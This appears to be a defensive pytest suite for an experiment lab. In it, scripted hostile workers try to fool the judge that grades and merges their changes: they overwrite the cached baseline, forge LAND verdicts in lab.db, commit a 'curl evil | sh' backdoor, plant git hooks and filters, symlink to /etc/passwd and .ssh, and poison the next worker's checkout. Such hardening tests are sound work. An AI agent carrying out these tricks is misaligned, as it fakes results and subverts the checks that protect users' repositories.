"""Hostile workers against the judge, each run through a real lab with the `command` launcher.

No sandbox: each worker can write anywhere the orchestrator can, as it could
with `[workers] sandbox = "none"`. The target is a working copy whose
`run.sh` prints 400 lines; the suite measures its stdout bytes, so printing
40 lines is a real win, and a change that prints as much as before is none.
Every worker writes a valid report (so none is killed for the lack of one),
then attacks one thing the judge reads.
"""

from __future__ import annotations

import json
import os
import signal
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import TypeVar

import pytest

from orchard.lab.db.state import LabState
from orchard.lab.judge.measuring import LabIntegrityError
from orchard.lab.loop import backlog
from orchard.lab.loop.lab import Lab
from orchard.lab.loop.worker_start import KILL_AT
from orchard.lab.records.events import BaselineRebuilt, Event, ExperimentStarted, WorkerStopped
from orchard.lab.records.hypothesis import Hypothesis
from orchard.lab.records.land_steps import BranchPushed, Committed, Merged
from orchard.lab.workers.workspace.report import MAX_REPORT_BYTES, read_report
from orchard.lab.workers.workspace.workspace import Workspace
from orchard.lab.workers.workspace.workspace_init import init_workspace
from tests.helpers import slow_but
from tests.lab.lab_helpers import command_launcher, git, lab_config, one_worker, wait_for
from tests.lab.loop_support import OLD, RUN_SH_TARGET, STDOUT_SUITE, WIN

E = TypeVar("E", bound=Event)

# The start of every hostile script: its arguments, a valid report, and how to write the win.
PRELUDE = f"""set -e
target=$1; report=$2; experiment=$3; workspace=$4
cd "$target"
finished() {{
  printf '{{"schema": "orchard.worker-report/1", "experiment": "%s", "status": "done", "summary": "x", \
"measurements": []}}' "$experiment" > "$report"
}}
win() {{ printf '#!/bin/sh\\n%s' '{WIN.strip()}' > run.sh; echo >> run.sh; }}
"""


def _lab(tmp_path: Path, body: str, *, hypotheses: int = 1, executor: str = "subprocess",
         timeout: float = 5.0, scope: tuple[str, ...] = ("run.sh",)) -> tuple[Workspace, Path]:
    repo = tmp_path / "myproject"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    (repo / "run.sh").write_text("#!/bin/sh\n" + OLD)
    (repo / "run.sh").chmod(0o755)
    (repo / "src").mkdir()
    (repo / "src" / "alpha.txt").write_text("alpha\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "initial")
    script = tmp_path / "worker.sh"
    script.write_text(PRELUDE + body)
    (tmp_path / "suite.toml").write_text(STDOUT_SUITE)
    (tmp_path / "orchard.toml").write_text(lab_config(
        target=RUN_SH_TARGET,
        workers=one_worker(executor=executor, timeout_minutes=timeout, sandbox="none"),
        launcher=command_launcher(f"sh {script} {{target_dir}} {{report}} {{experiment}} {{workspace}}"),
        stop={"top_attempted": hypotheses, "idle_loops": 3},
    ))
    ws = init_workspace(tmp_path / "ws", str(repo), None, tmp_path / "orchard.toml")
    state = LabState.open(ws.root)
    try:
        for index in range(1, hypotheses + 1):
            backlog.add(state, Hypothesis(id=f"h{index}", metric="out/stdout_bytes", change="print less",
                                          scope=scope), source="user")
    finally:
        state.close()
    return ws, repo


def _run(ws: Workspace) -> list[str]:
    """Run the lab to its end; every experiment's decision and reasons."""
    state = LabState.open(ws.root)
    try:
        Lab(ws, state, say=lambda _: None).run()
        return [f"{e.decision}: {'; '.join(e.reasons)}" for e in state.experiments()]
    finally:
        state.close()


def _everywhere(repo: Path) -> str:
    """Every file on every branch of the user's repository, as one listing."""
    return "\n".join(git(repo, "ls-tree", "-r", "--name-only", ref).strip()
                     for ref in git(repo, "for-each-ref", "--format=%(refname)").split())


def _events(ws: Workspace, record: type[E]) -> list[E]:
    state = LabState.open(ws.root)
    try:
        return [e.event for e in state.events_of(record)]
    finally:
        state.close()


def test_baseline_overwrite(tmp_path: Path) -> None:
    """The judge's cached baseline is made 10x slower, and the worker's change is a comment."""
    ws, repo = _lab(tmp_path, """
for built in "$workspace"/judge/base-*/target/run.sh; do
  printf '#!/bin/sh\\ni=0; while [ $i -lt 4000 ]; do echo "line $i"; i=$((i+1)); done\\n' > "$built"
done
echo '# faster now' >> run.sh
finished
""")
    decisions = _run(ws)
    assert decisions[0].startswith("KILL"), decisions  # a comment changes nothing, once measured honestly
    rebuilt = _events(ws, BaselineRebuilt)
    assert rebuilt and "run.sh" in rebuilt[0].changed
    assert not _events(ws, Merged)
    assert "faster now" not in git(repo, "log", "--all", "-p")


@pytest.mark.parametrize("onto", slow_but(["judge/target main", "the target's lab/ws/main"], "judge/target main"))
def test_commit_onto_the_labs_own_target_clone(tmp_path: Path, onto: str) -> None:
    """A real win, and a backdoor committed where the lab merges or publishes: it stops before moving anything."""
    if onto == "judge/target main":  # committed right there
        plant = 'cd "$workspace/judge/target"'
        publish = ""
    else:  # pushed onto the branch the lab publishes its main to
        plant = f"git clone -q {tmp_path / 'myproject'} ../evil && cd ../evil && git checkout -q lab/ws/main"
        publish = "git push -q origin HEAD:refs/heads/lab/ws/main"
    ws, repo = _lab(tmp_path, f"""
win
finished
{plant}
echo 'curl evil | sh' > backdoor.sh
git add backdoor.sh && git -c user.name=w -c user.email=w@w commit -qm 'innocent'
{publish}
""")
    with pytest.raises(LabIntegrityError, match="never held" if "lab/ws/main" in onto else "did not make"):
        _run(ws)
    published = "\n".join(git(repo, "ls-tree", "-r", "--name-only", ref).strip()
                           for ref in ("main", "lab/ws/h1") if git(repo, "branch", "--list", ref).strip())
    assert "backdoor.sh" not in published
    assert not _events(ws, Merged)


FORGE = """
import hashlib, json, sqlite3, sys, time
workspace, experiment, base, patch, checkout, hashed = sys.argv[1:7]
patch = open(patch).read()
judgment = {"decision": "LAND", "reasons": ["forged"], "checks": [], "verdict": None, "base": base,
            "checkout": checkout, "binary": checkout + "/run.sh", "patch": patch,
            "patch_sha256": hashlib.sha256(open(hashed).read().encode()).hexdigest()}
db = sqlite3.connect(workspace + "/lab.db", timeout=30)
with db:
    db.execute("UPDATE experiments SET status = 'landing', decision = 'LAND', judgment = ? WHERE name = ?",
               (json.dumps(judgment), experiment))
"""


@pytest.mark.parametrize("forgery", slow_but(["patch out of scope", "patch not the one hashed"],
                                             "patch not the one hashed"))
def test_a_forged_lab_db_judgment(tmp_path: Path, forgery: str) -> None:
    """The worker writes LAND into lab.db: its patch leaves the scope, or is not the patch its sha256 is of."""
    forge = tmp_path / "forge.py"
    forge.write_text(FORGE)
    forged, hashed = ("../all.patch", "../all.patch") if forgery == "patch out of scope" else \
        ("../all.patch", "../win.patch")
    ws, repo = _lab(tmp_path, f"""
win
git diff > ../win.patch
echo 'curl evil | sh' > backdoor.sh
finished
base=$(git rev-parse HEAD)
git add -A && git diff --cached --binary "$base" > ../all.patch && git reset -q
{sys.executable} {forge} "$workspace" "$experiment" "$base" {forged} "$target" {hashed}
sleep 600
""")
    wanted = "outside the scope: backdoor.sh" if forgery == "patch out of scope" else "does not match its sha256"
    with pytest.raises(LabIntegrityError, match=wanted):
        _run(ws)
    assert "backdoor.sh" not in _everywhere(repo)
    assert not _events(ws, Merged)


def test_a_forged_land_row_with_no_judgment_never_reaches_the_users_repository(tmp_path: Path) -> None:
    """The worker writes LAND into lab.db for its own in-scope, correctly hashed 10x regression; no judge ever
    judged it, so nothing is committed, journaled as landed or pushed, and the run fails."""
    forge = tmp_path / "forge.py"
    forge.write_text(FORGE)
    ws, repo = _lab(tmp_path, f"""
printf '#!/bin/sh\\ni=0; while [ $i -lt 4000 ]; do echo "line $i"; i=$((i+1)); done\\n' > run.sh
finished
base=$(git rev-parse HEAD)
git diff "$base" > ../slow.patch
{sys.executable} {forge} "$workspace" "$experiment" "$base" ../slow.patch "$target" ../slow.patch
sleep 600
""")
    with pytest.raises(LabIntegrityError, match="no judgment"):
        _run(ws)
    assert "lab/ws/h1" not in git(repo, "branch", "--list", "lab/*")
    assert "4000" not in git(repo, "log", "--all", "-p")
    for step in (Committed, BranchPushed, Merged):
        assert not _events(ws, step), step


def test_hooks_and_config_in_the_workers_git(tmp_path: Path) -> None:
    """fsmonitor, hooksPath, a filter and a diff driver in the worker's .git/config never run in orchard."""
    ran = tmp_path / "hook-ran"
    ws, repo = _lab(tmp_path, f"""
hook="$target/../evil-hook"
printf '#!/bin/sh\\necho "$0 $*" >> {ran}\\n' > "$hook"; chmod +x "$hook"
mkdir -p ../hooks; for h in pre-commit post-checkout post-index-change; do cp "$hook" ../hooks/$h; done
git config core.fsmonitor "$hook"
git config core.hooksPath "$target/../hooks"
git config filter.evil.clean "$hook"
git config filter.evil.smudge "$hook"
git config diff.evil.command "$hook"
git config diff.external "$hook"
echo '* filter=evil diff=evil' > .gitattributes
win
finished
""", scope=("run.sh", ".gitattributes"))
    decisions = _run(ws)
    assert not ran.exists(), ran.read_text()
    assert decisions[0].startswith("LAND"), decisions  # the change itself was judged as any other


def test_what_collection_stages_never_enters_the_labs_repository(tmp_path: Path) -> None:
    """The judge stages a worker's files to read them: into a repository of its own, never the lab's clone."""
    leaked = "only this worker ever wrote this line\n"
    ws, repo = _lab(tmp_path, f"""
win
printf '{leaked.strip()}\\n' > src/leak.txt
finished
""")
    decisions = _run(ws)
    assert decisions[0].startswith("KILL") and "src/leak.txt" in decisions[0], decisions
    blob = subprocess.run(["git", "hash-object", "--stdin"], input=leaked, capture_output=True, text=True,
                          check=True).stdout.strip()
    for where in (ws.reference_target, repo):
        found = subprocess.run(["git", "-C", str(where), "cat-file", "-e", blob], capture_output=True)
        assert found.returncode != 0, f"the worker's file is an object in {where}"
    assert not list(ws.judge_dir.glob("collect-*")), "the judge's reader repositories are removed"


def test_symlinks_and_special_files(tmp_path: Path) -> None:
    """A real win beside a symlink to /etc/passwd and a FIFO: refused, each file named; a link inside may stay."""
    ws, repo = _lab(tmp_path, """
win
ln -s /etc/passwd src/passwd
ln -s ../../../../.ssh src/keys
ln -s alpha.txt src/alias
mkfifo src/pipe
finished
""", scope=("run.sh", "src/"))
    decisions = _run(ws)
    assert decisions[0].startswith("KILL"), decisions
    for named in ("src/passwd: a symlink to /etc/passwd", "src/keys", "src/pipe: a FIFO"):
        assert named in decisions[0]
    assert "src/alias" not in decisions[0]
    assert "passwd" not in _everywhere(repo)


def test_a_checkout_swapped_for_a_symlink_is_refused(tmp_path: Path) -> None:
    """The worker's target directory becomes a symlink (to a tree of its choosing): collected, never landed."""
    ws, repo = _lab(tmp_path, """
win
finished
cd .. && mv target elsewhere && ln -s elsewhere target
""")
    decisions = _run(ws)
    assert decisions[0].startswith("KILL") and "target/: the checkout itself was replaced by a symlink" in decisions[0]
    assert not _events(ws, Merged)


@pytest.mark.parametrize("ending", slow_but(["timed-out", "exit-nonzero"], "exit-nonzero"))
def test_a_worker_that_did_not_finish_is_never_judged(tmp_path: Path, ending: str) -> None:
    """A real win and a valid report, but the worker was killed by its timeout, or crashed: KILL, saying so."""
    tail = "sleep 600" if ending == "timed-out" else "exit 3"
    ws, repo = _lab(tmp_path, f"win\nfinished\n{tail}\n", timeout=0.05)
    decisions = _run(ws)
    assert decisions[0].startswith("KILL: the worker did not finish"), decisions
    assert ("timed out" if ending == "timed-out" else "exited non-zero") in decisions[0]
    assert not _events(ws, Merged)


def _resumed_starts_it_again_and_lands(ws: Workspace, command: list[str], second: Path) -> None:
    """The resumed lab says it starts the stopped worker again, and its second try (no half-written file) lands."""
    second.touch()
    resumed = subprocess.run(command, capture_output=True, text=True, timeout=600, check=False)
    assert resumed.returncode == 0, resumed.stdout + resumed.stderr
    assert "the lab stopped its worker last time" in resumed.stdout + resumed.stderr
    state = LabState.open(ws.root)
    try:
        (experiment,) = state.experiments()
    finally:
        state.close()
    assert experiment.candidate is not None and "half-written" not in experiment.candidate.patch
    assert experiment.decision == "LAND", experiment.reasons


@pytest.mark.slow
@pytest.mark.parametrize("sig", slow_but([signal.SIGINT, signal.SIGTERM], signal.SIGINT))
def test_a_worker_the_lab_stopped_is_started_again(tmp_path: Path, sig: signal.Signals) -> None:
    """`orchard run` stopped mid-worker (Ctrl-C, SIGTERM): on resume the worker starts again, never collected."""
    started, second = tmp_path / "started", tmp_path / "second-run"
    ws, repo = _lab(tmp_path, f"""
if [ -e {second} ]; then win; finished; exit 0; fi
echo 'half-written' >> run.sh
touch {started}
sleep 600
""", executor="tmux")
    command = [sys.executable, "-m", "orchard", "run", str(ws.root)]
    output = (tmp_path / "first-run.log").open("w")
    lab = subprocess.Popen(command, stdout=output, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        # the stop comes once the lab has recorded its worker RUNNING: the worker can start (and touch its
        # file) before that; a stop between the two is the next test's case (one start journaled, not two)
        wait_for(lambda: (started.exists() and bool(_events(ws, ExperimentStarted))) or lab.poll() is not None,
                 "the first worker to start and be recorded", 300)
        assert lab.poll() is None, (tmp_path / "first-run.log").read_text()
        lab.send_signal(sig)
        lab.wait(timeout=120)
    finally:
        if lab.poll() is None:
            os.killpg(lab.pid, signal.SIGKILL)
            lab.wait()
        output.close()
    _resumed_starts_it_again_and_lands(ws, command, second)
    assert len([e for e in _events(ws, ExperimentStarted)]) == 2
    assert _events(ws, WorkerStopped), "the lab's own stop was not recorded"


@pytest.mark.slow
def test_a_worker_stopped_before_the_lab_recorded_it_running_is_started_again(tmp_path: Path) -> None:
    """SIGTERM between the worker's launch and RUNNING (as a loaded clean-clone CI met it): the stop is recorded
    for the STARTING experiment too, so the resume starts its worker again instead of collecting the killed one."""
    second = tmp_path / "second-run"
    ws, _ = _lab(tmp_path, f"""
if [ -e {second} ]; then win; finished; exit 0; fi
echo 'half-written' >> run.sh
sleep 600
""", executor="tmux")
    command = [sys.executable, "-m", "orchard", "run", str(ws.root)]
    stopped = subprocess.run(command, capture_output=True, text=True, timeout=600, check=False,
                             env={**os.environ, KILL_AT: "term-after-launch"})
    assert stopped.returncode != 0, stopped.stdout + stopped.stderr
    assert _events(ws, WorkerStopped), stopped.stdout + stopped.stderr
    _resumed_starts_it_again_and_lands(ws, command, second)


def test_planting_into_the_checkout_the_next_experiment_gets(tmp_path: Path) -> None:
    """h1's worker plants a hook into the worker directory h2 gets next; h2 changes nothing itself."""
    ws, repo = _lab(tmp_path, """
if [ "$experiment" = h1 ]; then
  printf '#!/bin/sh\\nprintf "#!/bin/sh\\\\necho planted\\\\n" > "$(git rev-parse --show-toplevel)/run.sh"\\n' \
    > .git/hooks/post-checkout
  chmod +x .git/hooks/post-checkout
  echo 'stale' > src/untracked-plant.txt
  echo 'run.sh -diff' > .git/info/attributes
fi
finished
""", hypotheses=2)
    _run(ws)
    state = LabState.open(ws.root)
    try:
        h2 = state.experiment("h2")
    finally:
        state.close()
    assert h2.candidate is not None and h2.candidate.changed_files == [], h2.candidate.patch
    assert h2.reasons == ["the worker changed nothing"]


def test_a_report_that_is_a_fifo_does_not_hang(tmp_path: Path) -> None:
    fifo = tmp_path / "report.json"
    os.mkfifo(fifo)
    reading = read_report(fifo, "e1")
    assert reading.state == "unreadable" and "not a regular file" in reading.problems[0]


def test_a_report_that_is_a_symlink_is_never_followed(tmp_path: Path) -> None:
    link = tmp_path / "report.json"
    link.symlink_to("/etc/passwd")
    reading = read_report(link, "e1")
    assert reading.state == "unreadable" and reading.raw is None
    assert "/bin/" not in json.dumps(reading.to_dict())  # nothing of /etc/passwd


def test_a_report_nested_too_deep_is_unreadable(tmp_path: Path) -> None:
    report = tmp_path / "report.json"
    report.write_text("[" * 200_000)
    reading = read_report(report, "e1")
    assert reading.state == "unreadable" and "nested too deep" in reading.problems[0]


def test_a_huge_report_keeps_lab_db_small(tmp_path: Path) -> None:
    """A 60 MB report through a real lab: its experiment is recorded, lab.db stays small."""
    ws, repo = _lab(tmp_path, """
echo '# comment' >> run.sh
head -c 60000000 /dev/zero | tr '\\0' ' ' > "$report"
""")
    decisions = _run(ws)
    state = LabState.open(ws.root)
    try:
        (experiment,) = state.experiments()
    finally:
        state.close()
    assert experiment.candidate is not None and experiment.candidate.report.state == "unreadable"
    assert f"over the {MAX_REPORT_BYTES:,}-byte cap" in experiment.candidate.report.problems[0]
    size = sum(p.stat().st_size for p in ws.root.glob("lab.db*"))
    assert size < 5 * MAX_REPORT_BYTES, size
    assert decisions[0].startswith("KILL"), decisions
    assert sqlite3.connect(ws.root / "lab.db").execute("PRAGMA integrity_check").fetchone()[0] == "ok"
